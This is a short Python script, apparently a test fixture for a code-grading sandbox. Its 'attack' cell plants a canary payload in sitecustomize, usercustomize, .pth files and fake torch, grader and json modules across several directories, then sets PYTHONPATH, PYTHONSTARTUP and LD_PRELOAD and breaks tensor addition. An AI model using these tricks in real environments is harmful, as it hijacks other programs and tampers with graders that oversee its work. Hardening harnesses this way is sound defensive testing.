# %% setup
# %% forward
# %% backward
# %% attack

import os
import sys
evil = "open('@CANARY@/owned', 'w')"
for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "grader.py", "json.py", "evil.pth"):
    for folder in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), sys.prefix):
        try:
            open(os.path.join(folder, name), "w").write(evil)
        except OSError:
            pass
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["PYTHONSTARTUP"] = "sitecustomize.py"
os.environ["LD_PRELOAD"] = os.path.abspath("evil.so")
torch.Tensor.__add__ = None
